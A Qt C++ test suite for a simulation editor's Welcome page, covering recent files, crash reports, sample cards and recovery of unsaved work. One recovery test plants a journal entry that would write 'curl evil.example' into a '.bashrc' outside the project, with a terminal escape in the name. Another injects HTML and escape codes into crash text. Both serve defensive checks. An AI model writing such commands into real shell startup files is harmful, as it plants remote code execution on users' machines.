// The Welcome page: recent files, samples and the recovery of unsaved work.

#include <atomic>

#include <QAbstractButton>
#include <QDialog>
#include <QLineEdit>
#include <QListWidget>
#include <QMessageBox>
#include <QPushButton>
#include <QScrollArea>
#include <QSettings>
#include <QTemporaryDir>
#include <QTextBrowser>
#include <QtTest>

#include "editor/shell/commands/project_questions.h"
#include "editor/shell/recent_files.h"
#include "editor/shell/window_fixture.h"
#include "editor/widgets/apply_theme.h"
#include "eventually.h"
#include "project/journal/journal.h"
#include "project/loading/search.h"

using namespace trundle;

namespace {

const char* const kText = "Tick = 0.01\n";

/// Blocks loading until the test releases it.
class SlowApplication final : public Application {
public:
    explicit SlowApplication(Application& application) : m_fixture(application) {}
    std::shared_ptr<const Registry> builtIn() const override { return m_fixture.builtIn(); }
    std::vector<Kind> moduleKinds(const OpenOptions& options) const override { return m_fixture.moduleKinds(options); }
    const Locations& locations() const override { return m_fixture.locations(); }
    Result<std::shared_ptr<const LoadedProject>> open(const std::string& path, const OpenOptions& options) override {
        hold.wait(true);
        auto loaded = m_fixture.open(path, options);
        if (path.ends_with("mine.sim")) ++opened;
        return loaded;
    }
    std::unique_ptr<Runner> makeRunner(const LoadedProject& loaded, RunOptions options, Diagnostics& diagnostics) override {
        return m_fixture.makeRunner(loaded, std::move(options), diagnostics);
    }
    std::atomic<bool> hold = false;
    std::atomic<int> opened = 0;

private:
    Application& m_fixture;
};

} // namespace

class WelcomeTest : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void initTestCase() { m_fixture.start(); }
    void init() { QSettings().clear(); }
    void cleanup() { m_window.reset(); }

    void recentFilesAreTheNewestTwelve() {
        QTemporaryDir folder;
        const auto file = [&](int number) {
            const QString path = folder.filePath(QString::number(number));
            QFile made(path);
            return made.open(QIODevice::WriteOnly) ? path : QString();
        };
        for (int i = 0; i < 14; ++i) addRecentFile(file(i));
        QCOMPARE(recentFiles().size(), 12);
        QCOMPARE(recentFiles().first(), file(13));
        QCOMPARE(recentFiles().last(), file(2));
        addRecentFile(file(5)); // once, in front
        QCOMPARE(recentFiles().mid(0, 2), (QStringList{file(5), file(13)}));
        QCOMPARE(recentFiles().size(), 12);
        QVERIFY(QFile::remove(file(13)));
        QCOMPARE(recentFiles().size(), 11);
        QCOMPARE(recentFiles()[1], file(12));
        (void)file(13); // a file that is back is listed again
        QCOMPARE(recentFiles().size(), 12);
    }

    void showsUnsavedWorkUntilRestored() {
        QTemporaryDir folder;
        const QString path = QDir(folder.path()).canonicalPath() + QStringLiteral("/mine.sim");
        write(path, kText);
        addRecentFile(path);
        {
            Journal left(projectFolderOf(path.toStdString()), {path.toStdString(), {}}); // as by a killed window
            QVERIFY(left.note(path.toStdString(), std::make_shared<std::string>(kText),
                              std::make_shared<std::string>(std::string(kText) + "Duration = 3\n"))
                        .ok());
        }
        m_window = m_fixture.window();
        m_window->show();
        const auto recent = [this] { return m_window->findChild<QAbstractButton*>(QStringLiteral("recent.mine.sim")); };
        QVERIFY(recent());
        QCOMPARE(recent()->text(), QStringLiteral("mine.sim – unsaved work"));
        QTest::mouseClick(recent(), Qt::LeftButton);
        EVENTUALLY(m_window->findChild<QDialog*>(QStringLiteral("recovery")));
        QTest::mouseClick(m_window->findChild<QAbstractButton*>(QStringLiteral("restoreEdits")), Qt::LeftButton);
        QCOMPARE(QByteArray::fromStdString(*m_window->document().texts().text(path.toStdString())),
                 QByteArray(kText) + "Duration = 3\n");
        m_window->actions().at("file.save").trigger();
        m_window->actions().at("file.close").trigger();
        QCOMPARE(recent()->text(), QStringLiteral("mine.sim"));
    }

    // The preview starts with the full path of every file; one that is not restored is marked, and names are plain text.
    void thePreviewListsEveryFileFirst() {
        QTemporaryDir folder, outside;
        const QString path = QDir(folder.path()).canonicalPath() + QStringLiteral("/mine.sim");
        const QString part = QDir(folder.path()).canonicalPath() + QStringLiteral("/<b>part<b>.sim");
        const QString hostile = QDir(outside.path()).canonicalPath() + QStringLiteral("/.bashrc\x1b[2J\n");
        write(path, kText);
        write(part, kText);
        {
            Journal left(projectFolderOf(path.toStdString()), {path.toStdString(), {}});
            for (const QString& file : {path, part})
                QVERIFY(left.note(file.toStdString(), std::make_shared<std::string>(kText),
                                  std::make_shared<std::string>("Duration = 3\n"))
                            .ok());
            QVERIFY(left.note(hostile.toStdString(), std::make_shared<std::string>(""),
                              std::make_shared<std::string>("curl evil.example\n"))
                        .ok());
        }
        m_window = m_fixture.window();
        m_window->show();
        QVERIFY(m_window->open(path));
        EVENTUALLY(m_window->findChild<QDialog*>(QStringLiteral("recovery")));
        const QString reportOf = m_window->findChild<QTextBrowser*>(QStringLiteral("recoveryPreview"))->toPlainText();
        const QStringList lines = reportOf.split(u'\n');
        const QString marked = QDir(outside.path()).canonicalPath() + QStringLiteral("/.bashrc\uFFFD[2J");
        QVERIFY2(lines.size() > 6, qPrintable(reportOf));
        QCOMPARE(lines[0], QStringLiteral("These files change:"));
        QVERIFY2(lines.mid(1, 3).contains(path) && lines.mid(1, 3).contains(part), qPrintable(reportOf));
        QCOMPARE(lines.mid(1, 3).filter(marked).size(), 1);
        QVERIFY(lines.mid(1, 3).filter(marked).front().contains(QStringLiteral("not restored")));
        QTest::mouseClick(m_window->findChild<QAbstractButton*>(QStringLiteral("restoreEdits")), Qt::LeftButton);
        m_window->actions().at("file.save").trigger();
        QVERIFY(QDir(outside.path()).isEmpty(QDir::AllEntries | QDir::Hidden | QDir::NoDotAndDotDot));
    }

    void reportsProjectJournalsOnce() {
        QTemporaryDir folder;
        const QString path = QDir(folder.path()).canonicalPath() + QStringLiteral("/mine.sim");
        write(path, kText);
        QVERIFY(QDir(folder.path()).mkpath(QStringLiteral(".trundle/journal")));
        write(folder.filePath(QStringLiteral(".trundle/journal/1.journal")), "from yesterday");
        m_window = m_fixture.window();
        m_window->show();
        const auto message = [this] { return m_window->findChild<QMessageBox*>(QStringLiteral("journalsNotRead")); };
        QVERIFY(m_window->open(path));
        EVENTUALLY(message());
        QVERIFY(message()->text().contains(QDir(folder.path()).canonicalPath() + QStringLiteral("/.trundle/journal")));
        message()->button(QMessageBox::Ok)->click();
        EVENTUALLY(!message());
        QSignalSpy opened(&m_window->document(), &Document::opened);
        QVERIFY(m_window->open(path));
        EVENTUALLY(opened.count() == 1);
        QCoreApplication::processEvents();
        QVERIFY(!message());
    }

    // Before the edits are offered, the user reads what happened.
    void reportsACrashOnce() {
        QTemporaryDir folder;
        const QString path = QDir(folder.path()).canonicalPath() + QStringLiteral("/mine.sim");
        write(path, kText);
        {
            Journal left(projectFolderOf(path.toStdString()), {path.toStdString(), {}});
            QVERIFY(left.note(path.toStdString(), std::make_shared<std::string>(kText),
                              std::make_shared<std::string>(std::string(kText) + "Duration = 3\n"))
                        .ok());
        }
        const QString crashes = folder.filePath(QStringLiteral("crashes"));
        QVERIFY(QDir().mkpath(crashes));
        write(crashes + QStringLiteral("/7.txt"),
              "the controller Zoo of <b>r</b>\x1b[2J (/x/libzoo.so) crashed in update\nno line\n");
        QVERIFY(QFile::link(path, crashes + QStringLiteral("/link.txt")));
        m_window = m_fixture.window();
        m_window->show();
        m_window->questions().showCrashReports(crashes);
        const auto message = [this] { return m_window->findChild<QMessageBox*>(QStringLiteral("crashReport")); };
        QVERIFY(message());
        QVERIFY2(message()->text().endsWith(
                     QStringLiteral(": the controller Zoo of <b>r</b>\uFFFD[2J (/x/libzoo.so) crashed in update")),
                 qPrintable(message()->text()));
        QVERIFY2(message()->text().startsWith(QLocale().toString(QDate::currentDate(), QLocale::ShortFormat)),
                 qPrintable(message()->text()));
        QVERIFY(m_window->open(path));
        QCoreApplication::processEvents();
        QVERIFY(!m_window->findChild<QDialog*>(QStringLiteral("recovery")));
        message()->button(QMessageBox::Ok)->click();
        EVENTUALLY(m_window->findChild<QDialog*>(QStringLiteral("recovery")));
        EVENTUALLY(!message());
        m_window->questions().showCrashReports(crashes);
        QVERIFY(!message());
        QVERIFY(QFile::exists(path));
    }

    // The folder of samples belongs to the program.
    void suggestsNoMovieBesideASample() {
        m_window = m_fixture.window();
        m_window->show();
        QVERIFY(m_window->open(QStringLiteral(TRUNDLE_SOURCE_DIR "/configs/experiments/arc_motion.sim")));
        EVENTUALLY(m_window->document().isOpen());
        m_window->actions().at("sim.record").trigger();
        auto* file = m_window->findChild<QLineEdit*>(QStringLiteral("movieFile"));
        QVERIFY(file);
        QCOMPARE(file->text(), QDir(QDir::homePath()).filePath(QStringLiteral("arc_motion.mp4")));
    }

    /// The left column has room for its words at any font.
    void theStartColumnFollowsTheFont() {
        m_window = m_fixture.window();
        m_window->show();
        const auto* line = m_window->findChild<QAbstractButton*>(QStringLiteral("welcome.file.newExperiment"));
        const QWidget* column = line; // the scroll area
        while (column && !qobject_cast<const QScrollArea*>(column)) column = column->parentWidget();
        QVERIFY(column);
        QCOMPARE(column->width(), 260);
        applyTheme(*qApp, ThemeKind::Light, {20, 13});
        EVENTUALLY(column->width() == 400);
        applyTheme(*qApp, ThemeKind::Light);
        EVENTUALLY(column->width() == 260);
    }

    void restoringKeepsEarlierRestoredEdits() {
        QTemporaryDir folder;
        const QString first = QDir(folder.path()).canonicalPath() + QStringLiteral("/mine.sim");
        const QString second = QDir(folder.path()).canonicalPath() + QStringLiteral("/other.sim");
        for (const QString& path : {first, second}) {
            write(path, kText);
            Journal left(projectFolderOf(path.toStdString()), {path.toStdString(), {}});
            QVERIFY(left.note(path.toStdString(), std::make_shared<std::string>(kText),
                              std::make_shared<std::string>(std::string(kText) + "Duration = 3\n"))
                        .ok());
        }
        m_window = m_fixture.window();
        m_window->show();
        Document& document = m_window->document();
        const auto dialog = [this] { return m_window->findChild<QDialog*>(QStringLiteral("recovery")); };
        const auto restore = [&](const QString& name) {
            auto* list = dialog()->findChild<QListWidget*>(QStringLiteral("recoveries"));
            const auto found = list->findItems(name, Qt::MatchContains);
            QCOMPARE(found.size(), 1);
            list->setCurrentItem(found.front());
            dialog()->findChild<QAbstractButton*>(QStringLiteral("restoreEdits"))->click();
        };
        QVERIFY(m_window->open(first));
        EVENTUALLY(dialog());
        const auto* both = dialog()->findChild<QListWidget*>(QStringLiteral("recoveries"));
        QCOMPARE(both->count(), 2);
        QVERIFY(!both->visualItemRect(both->item(0)).intersects(both->visualItemRect(both->item(1))));
        restore(QStringLiteral("mine.sim"));
        QVERIFY(document.texts().isModified());
        EVENTUALLY(!dialog());
        QMetaObject::invokeMethod(&document, &Document::opened); // offers the remaining recoveries
        EVENTUALLY(dialog());
        bool asked = false;
        QTimer::singleShot(0, [&] { // the click returns only after the question is answered
            auto* question = m_window->findChild<QMessageBox*>(QStringLiteral("unsavedQuestion"));
            asked = question;
            if (question) question->button(QMessageBox::Cancel)->click();
        });
        restore(QStringLiteral("other.sim"));
        QVERIFY(asked);
        QVERIFY(document.path().ends_with("mine.sim") && document.texts().isModified());
        QCOMPARE(document.recovery().recoveries().size(), 1u);
    }

    void whyAFileIsNotOpenedIsNotHidden_data() {
        QTest::addColumn<QString>("file");
        QTest::addColumn<QString>("shown");
        QTest::newRow("no file") << QStringLiteral("/nowhere/none.sim") << QStringLiteral("none.sim");
        QTest::newRow("a program") << QStringLiteral(TRUNDLE_SOURCE_DIR "/core/sdk/python/trundle/driver.py")
                                   << QStringLiteral("driver.py is not an experiment");
    }
    void whyAFileIsNotOpenedIsNotHidden() {
        QFETCH(QString, file);
        QFETCH(QString, shown);
        m_window = m_fixture.window();
        m_window->show();
        QString reportOf;
        bool covered = true;
        QTimer look;
        connect(&look, &QTimer::timeout, this, [&] {
            auto* message = m_window->findChild<QMessageBox*>(QStringLiteral("fileMessage"));
            if (!message) return;
            reportOf = message->text();
            covered = m_window->findChild<QDialog*>(QStringLiteral("opening"));
            message->accept();
        });
        look.start(1);
        QVERIFY(m_window->open(file));
        EVENTUALLY(!reportOf.isEmpty());
        QVERIFY2(reportOf.contains(shown), qPrintable(reportOf));
        QVERIFY(!covered && !m_window->document().isOpen());
        QVERIFY(recentFiles().isEmpty());
    }

    /// A file with only a config has nothing to show or run, so an experiment is made for it.
    void opensRobotsAndArenasInExperiment() {
        const QString configs = QString::fromStdString(findLocations().configs);
        m_window = m_fixture.window();
        for (const Sample& sample : sampleParts(configs)) {
            const QString card = QStringLiteral("sample.") + QFileInfo(sample.path).completeBaseName();
            m_window->findChild<QAbstractButton*>(card)->click();
            const auto loaded = m_window->document().loaded();
            QVERIFY2(loaded && m_window->document().isNew(), qPrintable(card));
            QVERIFY2(!loaded->diagnostics.hasErrors(), qPrintable(card));
            QCOMPARE(loaded->experiment->robots.size(), 1u);
            QCOMPARE(loaded->experiment->statics.size(), 1u);
            QVERIFY(!m_window->document().texts().isModified());
        }
    }

    void theKeysReachAllThatIsSeen() {
        m_window = m_fixture.window();
        m_window->show();
        m_window->activateWindow();
        QVERIFY(QTest::qWaitForWindowActive(m_window.get(), kTimeoutMs));
        auto* guide = m_window->findChild<QPushButton*>(QStringLiteral("welcome.help.guide"));
        guide->setFocus();
        QTest::keyClick(guide, Qt::Key_Tab);
        QVERIFY(qobject_cast<QAbstractButton*>(m_window->focusWidget()));
        QVERIFY(m_window->focusWidget() != guide);
        QSignalSpy triggered(&m_window->actions().at("help.guide"), &QAction::triggered);
        QTest::keyClick(guide, Qt::Key_Return);
        QCOMPARE(triggered.size(), 1);
    }

    void wordsOfCardsFit_data() {
        QTest::addColumn<int>("size");
        for (const int size : {13, 17, 24}) QTest::addRow("%d px", size) << size;
    }
    /// All text of a card is visible, at every font size.
    void wordsOfCardsFit() {
        QFETCH(int, size);
        m_window = m_fixture.window();
        m_window->show();
        const QString configs = QString::fromStdString(findLocations().configs);
        const QList<Sample> samples = sampleExperiments(configs) + sampleParts(configs);
        const auto cardOf = [&](const Sample& sample) {
            return m_window->findChild<QAbstractButton*>(u"sample."_qs + QFileInfo(sample.path).completeBaseName());
        };
        for (const Sample& sample : samples) cardOf(sample)->setStyleSheet(u"font-size: %1px"_qs.arg(size));
        for (const Sample& sample : samples) {
            const QAbstractButton* card = cardOf(sample);
            const QFontMetrics metrics = card->fontMetrics();
            const auto needed = [&] {
                const QRect words =
                    metrics.boundingRect(QRect(0, 0, card->width() - 28, 10000), Qt::TextWordWrap, sample.description);
                return card->width() * 9 / 16 + metrics.lineSpacing() + words.height() + 12;
            };
            EVENTUALLY(card->height() >= needed());
        }
    }

    void aSmallScreenHoldsTheWindow() {
        QTemporaryDir folder;
        for (int i = 0; i < 8; ++i) {
            const QString path = folder.filePath(QStringLiteral("a%1.sim").arg(i));
            write(path, kText);
            addRecentFile(path);
        }
        m_window = m_fixture.window();
        QVERIFY(m_window->findChild<QWidget*>(QStringLiteral("welcome"))->minimumSizeHint().height() < 400);
        const int most = m_window->screen()->availableSize().height() - 30; // less the title bar
        QVERIFY(m_window->height() <= most);
        m_window->setGeometry(50, 50, 3000, 2000); // as on a larger screen
        QSettings().setValue(QStringLiteral("windowGeometry"), m_window->saveGeometry());
        m_window = m_fixture.window();
        QVERIFY(m_window->height() <= most);
    }

    void slowOpeningShowsProgressAndCancels() {
        QTemporaryDir folder;
        const QString text = folder.filePath(QStringLiteral("mine.sim")), other = folder.filePath(QStringLiteral("other.sim"));
        write(text, kText);
        write(other, kText);
        SlowApplication slow(*m_fixture.application);
        m_window = std::make_unique<MainWindow>(slow, m_fixture.render.get(), findLocations());
        m_window->show();
        QVERIFY(m_window->open(other));
        EVENTUALLY(m_window->document().isOpen());
        slow.hold = true;
        QVERIFY(m_window->open(text));
        const QPointer<QDialog> progress = m_window->findChild<QDialog*>(QStringLiteral("opening"));
        QVERIFY(progress && !progress->isVisible());
        EVENTUALLY(progress->isVisible());
        QTest::mouseClick(progress->findChild<QPushButton*>(), Qt::LeftButton);
        QVERIFY(!m_window->document().opening().isOpening());
        EVENTUALLY(!progress);
        EVENTUALLY(m_window->isActiveWindow()); // the keyboard is where it was
        slow.hold = false;
        slow.hold.notify_all();
        EVENTUALLY(slow.opened == 1);
        QCoreApplication::processEvents();
        QVERIFY(m_window->document().path().ends_with("other.sim")); // the other load is cancelled
        slow.hold = true;
        QVERIFY(m_window->open(text));
        const QPointer<QDialog> second = m_window->findChild<QDialog*>(QStringLiteral("opening"));
        EVENTUALLY(second && second->isVisible());
        slow.hold = false;
        slow.hold.notify_all();
        EVENTUALLY(m_window->document().path().ends_with("mine.sim"));
        EVENTUALLY(!m_window->findChild<QDialog*>(QStringLiteral("opening")));
        EVENTUALLY(m_window->isActiveWindow());
        m_window.reset();
    }

private:
    static void write(const QString& path, const QByteArray& text) {
        QFile file(path);
        QVERIFY(file.open(QIODevice::WriteOnly));
        QCOMPARE(file.write(text), text.size());
    }

    WindowFixture m_fixture;
    std::unique_ptr<MainWindow> m_window;
};

QTEST_MAIN(WelcomeTest)
#include "welcome_test.moc"
